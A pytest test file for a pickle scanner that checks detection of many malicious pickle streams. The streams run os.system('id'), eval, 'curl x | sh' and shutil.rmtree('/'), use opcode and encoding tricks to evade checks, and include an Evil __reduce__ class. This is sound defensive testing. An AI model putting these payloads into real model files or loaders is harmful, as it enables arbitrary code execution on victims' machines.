"""Every way a pickle can run code is found; each sample is written here and never loaded."""

import base64
import pickle
import struct

import pytest

from buildkit.findings import Severity
from buildkit.scan import Verdict
from tests.scan.pickler import (
    EVIL,
    PROTO,
    call,
    data,
    describe,
    malicious_pickle,
    named,
    number,
    pickle_stream,
    rules,
    scan_bytes,
    stacked,
    text,
    tuple_of,
    worst,
)

SYSTEM = named("os", "system")
OS = call(named("builtins", "__import__"), text("os"))
MODULE = call(named("importlib", "import_module"), text("os"))
GETTER = call(named("operator", "attrgetter"), text("system"))
SIMPLE = call(named("types", "SimpleNamespace"))
LOADER = named("torch.storage", "_load_from_bytes")
BYTES = call(named("builtins", "bytes"))
RUNS = {
    "reduce": pickle_stream(call(SYSTEM, text("id"))),
    "stack_global": pickle_stream(call(stacked("posix", "system"), text("id"))),
    "protocol 0": b"cos\nsystem\n(S'id'\ntR.",
    "protocol 0 without an end": b"cos\nsystem\n(S'id'\ntR",
    "protocol 1": b"cposix\nsystem\nq\x00(U\x02idtq\x01Rq\x02.",
    "inst": b"(S'id'\nios\nsystem\n.",
    "obj": pickle_stream(b"(" + SYSTEM + text("id") + b"o"),
    "newobj": pickle_stream(SYSTEM + tuple_of(text("id")) + b"\x81"),
    "newobj_ex": pickle_stream(SYSTEM + tuple_of(text("id")) + b"}\x92"),
    "memo": pickle_stream(SYSTEM + b"\x940" + text("id") + b"\x85\x940h\x00h\x01R"),
    "memo, far": pickle_stream(SYSTEM + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("id") + b"\x85R"),
    "memo, by lines": pickle_stream(SYSTEM + b"p77\n0g77\n" + text("id") + b"\x85R"),
    "memo, written over": pickle_stream(
        stacked("builtins", "set") + b"q\x00" + SYSTEM + b"q\x00h\x00" + text("id") + b"\x85R"
    ),
    "memo of names": pickle_stream(
        text("os") + b"\x94" + text("system") + b"\x94h\x00h\x01\x93" + text("id") + b"\x85R"
    ),
    "dup": pickle_stream(SYSTEM + b"20" + text("id") + b"\x85R"),
    "popped": pickle_stream(call(SYSTEM, text("id")) + b"0N"),
    "popped with a mark": pickle_stream(b"(" + call(SYSTEM, text("id")) + b"1N"),
    "python 2's names": b"c__builtin__\neval\n(S'1'\ntR.",
    "python 2's modules": b"ccommands\ngetoutput\n(S'id'\ntR.",
    "dotted name": pickle_stream(call(stacked("torch.serialization", "os.system"), text("id"))),
    "dotted name, allowed module": pickle_stream(call(stacked("collections", "abc.sys.modules.get"), text("os"))),
    "class's method": pickle_stream(call(stacked("code", "InteractiveInterpreter.runcode"), b"}", text("1"))),
    "frame too long": PROTO + b"\x95" + struct.pack("<Q", 2**62) + call(SYSTEM, text("id")) + b".",
    "frame too short": PROTO + b"\x95" + struct.pack("<Q", 1) + call(SYSTEM, text("id")) + b".",
    "protocol in the middle": pickle_stream(b"N0\x80\x02" + call(SYSTEM, text("id"))),
    "broken behind": PROTO + call(SYSTEM, text("id")) + b"\xff\xff\xff",
    "cut behind": PROTO + call(SYSTEM, text("id")) + b"X\xff\xff\xff\x7fabc",
    "unbalanced before": pickle_stream(b"(0" + call(SYSTEM, text("id"))),
    "handed over": pickle_stream(call(named("collections", "defaultdict"), SYSTEM)),
    "as state": pickle_stream(SIMPLE + b"}" + text("__setstate__") + SYSTEM + b"sb" + text("id") + b"b"),
    "module without a name": pickle_stream(call(stacked("builtins", "__import__"), text("evil"))),
    "getattr": pickle_stream(call(call(named("builtins", "getattr"), OS, text("system")), text("id"))),
    "attrgetter": pickle_stream(call(call(GETTER, MODULE), text("id"))),
    "partial": pickle_stream(call(call(named("functools", "partial"), SYSTEM), text("id"))),
    "eval": pickle_stream(call(named("builtins", "eval"), text("1"))),
    "pip": pickle_stream(call(named("pip._internal.cli.main", "main"), b"]")),
    "runpy": pickle_stream(call(named("runpy", "run_path"), text("x"))),
    "pickle": pickle_stream(call(named("pickle", "loads"), data(b"N."))),
    "torch.load": pickle_stream(call(named("torch", "load"), text("x"))),
    "numpy.load": pickle_stream(call(named("numpy", "load"), text("x"))),
    "timeit": pickle_stream(call(named("timeit", "timeit"), text("1"))),
    "code objects": pickle_stream(call(named("types", "CodeType"), number(0))),
    "marshal": pickle_stream(call(named("marshal", "loads"), data(b"xx"))),
    "asyncio": pickle_stream(call(named("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"}")),
}  # fmt: skip


@pytest.mark.parametrize("name", RUNS)
def test_code_execution_is_critical(name):
    found = scan_bytes(RUNS[name])
    assert found.verdict is Verdict.FINDINGS, describe(found)
    assert "pickle-runs-code" in rules(found), describe(found)
    assert worst(found) is Severity.CRITICAL


HIGH = {
    "network": (call(named("socket", "create_connection"), text("x")), "pickle-dangerous-global"),
    "files": (call(named("shutil", "rmtree"), text("/")), "pickle-dangerous-global"),
    "logging": (call(named("logging", "FileHandler"), text("x")), "pickle-dangerous-global"),
    "only imported": (SYSTEM, "pickle-dangerous-global"),
    "unknown, called": (call(named("some.package", "Thing")), "pickle-unknown-global"),
    "computed name": (call(named("builtins", "str"), text("os")) + text("system") + b"\x93", "pickle-computed-global"),
    "name that is no text": (text("os") + number(3) + b"\x93", "pickle-computed-global"),
    "name out of nowhere": (text("os") + b"h\x07\x93", "pickle-computed-global"),
    "extension 1": (b"\x82\x01", "pickle-extension-code"),
    "extension 2": (b"\x83\x01\x02", "pickle-extension-code"),
    "extension 4": (b"\x84\x01\x02\x03\x04", "pickle-extension-code"),
    "call of a call": (call(call(named("collections", "OrderedDict"))), "pickle-computed-call"),
    "state of a module": (named("torch", "_utils") + b"}" + text("x") + text("y") + b"sb", "pickle-alters-global"),
    "state of an allowed class": (named("collections", "OrderedDict") + b"}b", "pickle-alters-global"),
    "entries of a global": (named("os", "environ") + text("PATH") + text("/") + b"s", "pickle-alters-global"),
    "appended to a global": (named("sys", "path") + text("/tmp") + b"a", "pickle-alters-global"),
}


@pytest.mark.parametrize("name", HIGH)
def test_possible_code_execution_is_high(name):
    body, rule = HIGH[name]
    found = scan_bytes(pickle_stream(body))
    assert rule in rules(found), describe(found)
    assert worst(found) >= Severity.HIGH


MEDIUM = {
    "unknown, imported": (named("some.package", "Thing"), "pickle-unknown-global"),
    "codec that hides": (call(named("_codecs", "encode"), text("vq"), text("rot13")), "pickle-odd-arguments"),
    "memory": (call(named("builtins", "bytearray"), b"\x8a\x05\0\0\0\0\x7f"), "pickle-exhausts-memory"),
    "special state": (SIMPLE + b"}" + text("__class__") + b"NsN\x86b", "pickle-special-state"),
    "tensor that is computed": (call(named("torch.storage", "_load_from_bytes"), BYTES), "pickle-odd-arguments"),
    "loader handed over": (call(named("collections", "defaultdict"), LOADER), "pickle-odd-arguments"),
    "loader as a method": (SIMPLE + b"}" + text("append") + LOADER + b"sb" + data(b"x") + b"a", "pickle-odd-arguments"),
    "joblib's file beside": (call(named("joblib.numpy_pickle", "NDArrayWrapper")), "pickle-unknown-global"),
    "memory map": (call(named("numpy", "memmap"), text("/etc/passwd")), "pickle-runs-code"),
    "state that is run": (call(named("scipy.stats._distn_infrastructure", "rv_continuous")), "pickle-runs-code"),
}  # fmt: skip


@pytest.mark.parametrize("name", MEDIUM)
def test_opcodes_that_no_pickler_writes_are_found(name):
    body, rule = MEDIUM[name]
    found = scan_bytes(pickle_stream(body))
    assert rule in rules(found), describe(found)
    assert worst(found) >= Severity.MEDIUM


def test_call_of_unknown_global_is_worse_than_import():
    assert worst(scan_bytes(pickle_stream(named("a.b", "c")))) is Severity.MEDIUM
    assert worst(scan_bytes(pickle_stream(call(named("a.b", "c"))))) is Severity.HIGH


def test_finding_names_call_and_offset():
    found = scan_bytes(pickle_stream(b"N0" + call(SYSTEM, text("curl x | sh"))))
    (one,) = found.findings
    assert one.what == "calls os.system('curl x | sh')"
    assert one.offset == 4


def test_arguments_in_findings_are_printable():
    (one,) = scan_bytes(pickle_stream(call(SYSTEM, text("\x1b[2J\n\u202e")))).findings
    assert one.what.isascii()
    assert one.what.isprintable()


NESTED = {
    "bytes": data(malicious_pickle()),
    "bytes, protocol 0": data(b"cos\nsystem\n(S'id'\ntR."),
    "twice": data(pickle_stream(data(malicious_pickle()))),
    "base64": text(base64.b64encode(malicious_pickle()).decode()),
    "base64, for addresses": text(
        base64.urlsafe_b64encode(malicious_pickle("subprocess", "call", "\u00ff" * 40)).decode()
    ),
    "base64, in lines": text(base64.encodebytes(pickle_stream(text("x" * 90) + EVIL)).decode()),
    "base64 as bytes": data(base64.b64encode(malicious_pickle())),
    "hexadecimal": text(malicious_pickle().hex()),
    "latin-1 of protocol 2": text(malicious_pickle().decode("latin-1")),
    "long latin-1": text(pickle_stream(text("x" * 600) + EVIL).decode("latin-1")),
    "long base64": text(base64.b64encode(pickle_stream(text("x" * 9000) + EVIL)).decode()),
    "python 2's string": b"T" + struct.pack("<i", len(malicious_pickle())) + malicious_pickle(),
    "quoted string": b"S" + ascii(malicious_pickle().decode("latin-1")).encode() + b"\n",
    "bytearray": b"\x96" + struct.pack("<Q", len(malicious_pickle())) + malicious_pickle(),
    "tensor": call(named("torch.storage", "_load_from_bytes"), data(malicious_pickle())),
}


@pytest.mark.parametrize("name", NESTED)
def test_pickle_in_constant_is_found(name):
    found = scan_bytes(pickle_stream(NESTED[name]))
    assert "pickle-runs-code" in rules(found), describe(found)
    assert all("@" in one.member for one in found.findings if one.rule.id == "pickle-runs-code")


def test_harmless_pickle_in_constant_is_low():
    found = scan_bytes(pickle_stream(data(pickle.dumps({"a": 1}))))
    assert (rules(found), worst(found)) == ({"pickle-in-constant"}, Severity.LOW)
    tensors = pickle_stream(call(named("torch.storage", "_load_from_bytes"), data(pickle.dumps({"a": 1}))))
    assert scan_bytes(tensors).verdict is Verdict.CLEAN


def test_tensor_bytes_that_are_not_a_file_are_a_gap():
    found = scan_bytes(pickle_stream(call(named("torch.storage", "_load_from_bytes"), data(b"\xff" * 20))))
    assert found.verdict is Verdict.PARTIAL


def test_user_list_allows_only_its_names():
    body = call(named("mine.layers", "Block"))
    assert scan_bytes(pickle_stream(body), "mine.layers.Block").verdict is Verdict.CLEAN
    assert scan_bytes(pickle_stream(body), "mine.*").verdict is Verdict.CLEAN
    assert scan_bytes(pickle_stream(body), "mine.layers.Other").verdict is Verdict.FINDINGS
    assert scan_bytes(pickle_stream(body), "mine.layer.*").verdict is Verdict.FINDINGS
    assert scan_bytes(pickle_stream(call(stacked("mine.layers", "os.system"))), "mine.*").verdict is Verdict.FINDINGS
    assert scan_bytes(pickle_stream(call(named("mine.layers", "__loader__"))), "mine.*").verdict is Verdict.FINDINGS


def test_allow_list_and_deny_list_are_disjoint():
    from buildkit.scan.pickle.lists import Standing, allowed_names, find_denial

    bad = [
        f"{module}.{name}"
        for module, names in allowed_names().exact.items()
        for name in names
        if find_denial(module, name) is not Standing.UNKNOWN
    ]
    assert bad == []


@pytest.mark.parametrize("protocol", range(6))
def test_system_call_by_real_pickler_is_found(protocol):
    class Evil:
        def __reduce__(self):
            import os

            return os.system, ("id",)

    found = scan_bytes(pickle.dumps({"weights": [1.0, Evil()]}, protocol=protocol))
    assert rules(found) == {"pickle-runs-code"}
